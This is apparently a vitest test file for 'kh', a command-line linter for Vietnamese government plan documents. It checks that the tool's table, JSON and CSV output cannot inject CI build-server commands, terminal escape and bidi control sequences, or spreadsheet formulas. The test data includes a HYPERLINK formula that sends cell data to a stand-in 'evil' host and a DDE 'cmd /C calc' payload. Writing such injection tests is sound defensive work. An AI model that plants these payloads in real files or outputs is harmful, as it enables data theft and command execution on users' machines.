import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { runHere } from './fake-terminal.ts';
import { departures } from './json-shape.ts';

let folder = '';
beforeEach(() => {
  folder = mkdtempSync(path.join(tmpdir(), 'kh-output-'));
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

function file(name: string, text: string): string {
  const full = path.join(folder, name);
  mkdirSync(path.dirname(full), { recursive: true });
  writeFileSync(full, text);
  return full;
}

const plan = (...lines: string[]) =>
  ['KẾ HOẠCH', 'Về việc nâng cao chất lượng', '', 'I. NHIỆM VỤ', ...lines, ''].join('\n');

/** Lines that a build server obeys: GitHub's `::` where a line begins, `##[` anywhere (actions/runner, ActionCommand.cs). */
const commandsIn = (output: string) =>
  output.split(/[\r\n]/).filter((line) => /^\s*::/.test(line) || /##(?:vso|teamcity)?\[/.test(line));

/** What steers a terminal or hides from its reader, line ends aside. */
const steering =
  /[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\u00ad]/u;

const argvs: readonly (readonly string[])[] = [
  ['lint', '--preset', 'strict'],
  ['lint', '--preset', 'strict', '--format', 'json'],
  ...['tasks', 'agencies', 'citations'].flatMap((command) =>
    ['table', 'json', 'csv'].map((format) => [command, '--format', format]),
  ),
  ['tasks', '--format', 'csv', '--raw-csv'],
  ['outline'],
  ['outline', '--format', 'json'],
];

const every = argvs.map((argv) => ({ argv, name: argv.join(' ') }));

describe('a build server that reads the output', () => {
  const commands = [
    '1. Tổ chức hội nghị sơ kết công tác',
    '::stop-commands::tok123 hội hội',
    '  ::add-mask::lỗi hội hội',
    '##[error]giả mạo hội hội',
    '1. Rà soát ##vso[task.setvariable variable=a]b hội hội',
    'STT\tNội dung\tChủ trì\tThời gian',
    '::warning::x\t::error::Rà soát\tSở Nội vụ\tQuý II',
    '\t::error::Rà soát hội hội\tSở Nội vụ\tQuý II',
  ];

  it('finds no command in lines that the report quotes: each is prefixed by a mark', async () => {
    const { out } = await runHere(['lint', '--preset', 'strict', file('full.kh', plan(...commands))]);
    expect(out).toMatch(/^ {2}6 \| ::stop-commands::tok123 hội hội$/m);
    expect(out).toMatch(/^ {4}\| +\^+$/m);
    expect(commandsIn(out)).toEqual([]);
  });

  it.each(every)('finds none in what kh $name prints of words and names of files', async ({ argv }) => {
    const paths = [
      file('a.kh', plan(...commands)),
      file('::stop-commands::x/a.kh', plan(...commands)),
      file(' ::error::b\n::error::c.kh', plan(...commands)),
      file('##[add-mask]c.kh', plan(...commands)),
    ];
    const here = process.cwd();
    process.chdir(folder); // the names begin the lines
    try {
      const names = paths.map((each) => path.relative(folder, each));
      const { out, err } = await runHere([...argv, ...names, '::error::none.kh', '::add-mask::e/none.kh']);
      const shown = argv.includes('--raw-csv') ? err : out + err;
      expect(commandsIn(shown)).toEqual([]);
      expect(out).not.toBe('');
    } finally {
      process.chdir(here);
    }
  });

  it('finds none in complaints on the command line and on configurations', async () => {
    file('::error::d/kh.config.json', '{ "preset": "::error::##[error]x", "::error::": 1 }');
    file('::error::d/a.kh', plan());
    const here = process.cwd();
    process.chdir(folder);
    try {
      for (const argv of [
        ['::error::'],
        ['lint', '--::error::##[error]x'],
        ['explain', '\n::error::'],
        ['lint', '--locale', 'en', '::error::d'],
        ['lint', '--format', 'json', '--stdin', '--fix', '--stdin-filename', '::error::d/##[x]'],
      ]) {
        const { out, err } = await runHere(argv, { stdin: plan('1. Rà soát') });
        expect(commandsIn(out + err)).toEqual([]);
        expect(err).not.toBe('');
      }
    } finally {
      process.chdir(here);
    }
  });
});

describe('a terminal that shows the output', () => {
  const bytes =
    '1. Tổ chức \x1b]0;owned\x07\x1b[2J hội\u009b2J hội\u202e hội\u200b hội\u2028::error::hội\u2066 hội hội\x7f';

  it.each(every)('is not steered by what kh $name prints', async ({ argv }) => {
    const name = file('a\x1b[2J\u202e.kh', plan(bytes, '- Cơ quan chủ trì: Sở\x1b[2J Nội vụ.'));
    const { out, err } = await runHere([...argv, name, `${name}\x1b[2J`], { columns: 200 });
    expect(out + err).not.toMatch(steering);
  });

  it('is not steered by a fixed text; a program gets it as it is', async () => {
    const stdin = `\ufeff${plan(bytes)}`;
    const onScreen = await runHere(['lint', '--stdin', '--fix'], { stdin, columns: 100 });
    expect(onScreen.out + onScreen.err).not.toMatch(steering);
    const piped = await runHere(['lint', '--stdin', '--fix'], { stdin });
    expect(piped.out).toContain('\x1b]0;owned\x07\x1b[2J');
    expect(piped.out.startsWith('\ufeff')).toBe(true);
  });

  it('loses nothing of JSON: what is escaped is read again as it was', async () => {
    const name = 'Tổ chức \x1b[2J\u009b\u202e\u200d##[error]x \u{e0001}'; // U+200B is a blank, and names have even blanks
    const { out } = await runHere([
      'tasks',
      '--format',
      'json',
      file('a.kh', plan(`1. ${name}\n- Chủ trì: A`)),
    ]);
    expect(out).toContain('\\u001b[2J\\u009b\\u202e\\u200d#\\u0023[error]');
    expect(JSON.parse(out).files[0].tasks[0].name).toBe(name);
  });
});

describe('a spreadsheet that opens the CSV', () => {
  const sheet = plan(
    '1. =HYPERLINK("http://evil/?"&A1,"bấm")',
    "- Cơ quan chủ trì: =cmd|' /C calc'!A0",
    '- Phối hợp: @SUM(1+1)',
    '- Thời gian thực hiện: +84',
    '- Sản phẩm: -1+1|cmd',
  );

  it('finds text where a formula would begin', async () => {
    const { out } = await runHere(['tasks', '--format', 'csv', file('a.kh', sheet)]);
    expect(out.split('\r\n')[1]).toBe(
      `I.1,"'=HYPERLINK(""http://evil/?""&A1,""bấm"")",'=cmd|' /C calc'!A0,'@SUM(1+1),'+84,'-1+1|cmd,5,,`,
    );
  });

  it('finds the words as they are with --raw-csv', async () => {
    const { out } = await runHere(['tasks', '--format', 'csv', '--raw-csv', file('a.kh', sheet)]);
    expect(out.split('\r\n')[1]).toBe(
      `I.1,"=HYPERLINK(""http://evil/?""&A1,""bấm"")",=cmd|' /C calc'!A0,@SUM(1+1),+84,-1+1|cmd,5,,`,
    );
  });

  it.each(['agencies', 'citations', 'tasks'])(
    'requires --format csv for --raw-csv: kh %s',
    async (command) => {
      const { code, err } = await runHere([command, '--raw-csv', file('a.kh', sheet)]);
      expect(code).toBe(2);
      expect(err).toContain('--format csv');
    },
  );
});

it('never prints a command nor a control character, whatever words a plan and its file have', async () => {
  const piece = fc.constantFrom(
    '::error::', '##[error]', '::', '##', '[', '\t', ' ', '\x1b[2J', '\x9b', '\u202e', '\u200b', '\ufeff', '\u2028', '\x85',
    '\u3000', 'hội hội', '1. ', 'a) ', '- ', 'Sở Nội vụ', 'Cơ quan chủ trì: ', '// kh-disable ', '|', '=', ';', '“',
  ); // biome-ignore format: a list of pieces
  const line = fc.array(piece, { maxLength: 6 }).map((pieces) => pieces.join(''));
  const text = fc.array(line, { maxLength: 8 }).map((lines) => plan(...lines));
  await fc.assert(
    fc.asyncProperty(text, fc.constantFrom(...every), fc.boolean(), async (stdin, { argv }, isScreen) => {
      if (argv.includes('--raw-csv') && !isScreen) return;
      const { out, err } = await runHere([...argv, '-'], { stdin, ...(isScreen ? { columns: 80 } : {}) });
      expect(out + err).not.toMatch(steering);
      if (!argv.includes('--raw-csv')) expect(commandsIn(out + err)).toEqual([]);
    }),
    { numRuns: 150 },
  );
});

describe('the JSON report of kh lint', () => {
  it('reports problems of a configuration, with their places', async () => {
    file('kh.config.json', '{\n  "preset": "strikt"\n}');
    const { code, out } = await runHere(['lint', '--format', 'json', '--locale', 'en', file('a.kh', plan())]);
    expect(code).toBe(2);
    expect(JSON.parse(out).problems).toEqual([
      {
        kind: 'configuration',
        path: path.relative('', path.join(folder, 'kh.config.json')),
        position: { line: 2, column: 13 },
        message: '“preset” has to be one of: recommended, strict. Did you mean “strict”?',
      },
    ]);
  });

  it('names files that cannot be read among the problems, and counts them', async () => {
    const { code, out } = await runHere(['lint', '--format', 'json', path.join(folder, 'none.kh')]);
    const { problems, summary } = JSON.parse(out);
    expect(code).toBe(2);
    expect(problems).toMatchObject([{ kind: 'file', path: path.join(folder, 'none.kh') }]);
    expect(summary).toMatchObject({ files: 1, failed: 1 });
  });

  it('gives the related places of a finding and the page of its rule, and conforms to its schema', async () => {
    const text = plan('1. Rà soát', '- Cơ quan chủ trì: Sở Nội vụ;', '- Cơ quan chủ trì: Sở Tài chính.');
    const { out } = await runHere(['lint', '--format', 'json', file('a.kh', text)]);
    const report = JSON.parse(out);
    expect(departures(report, 'docs/schemas/lint-report.schema.json')).toEqual([]);
    const finding = report.files[0].findings.find(({ rule }: { rule: string }) => rule === 'duplicate-field');
    expect(finding.related).toMatchObject([
      { path: report.files[0].path, range: { start: { line: 6 } }, message: expect.any(String) },
    ]);
    expect(finding.ruleUrl).toMatch(/^file:.*\/docs\/rules\/vi\/duplicate-field\.md$/);
  });

  it('counts what is fixed and what is not', async () => {
    const text = plan('1. Rà  soát hội hội', '- Cơ quan chủ trì: Sở Nội vụ;');
    const before = JSON.parse((await runHere(['lint', '--format', 'json', file('a.kh', text)])).out);
    expect(before.summary.fixed).toBe(0);
    expect(before.summary.fixable).toBeGreaterThan(0);
    const after = JSON.parse((await runHere(['lint', '--format', 'json', '--fix', file('a.kh', text)])).out);
    expect(after.summary.fixed).toBeGreaterThan(0);
    expect(after.summary.fixable).toBe(0);
    expect(after.files[0].fixed).toBe(after.summary.fixed);
  });
});
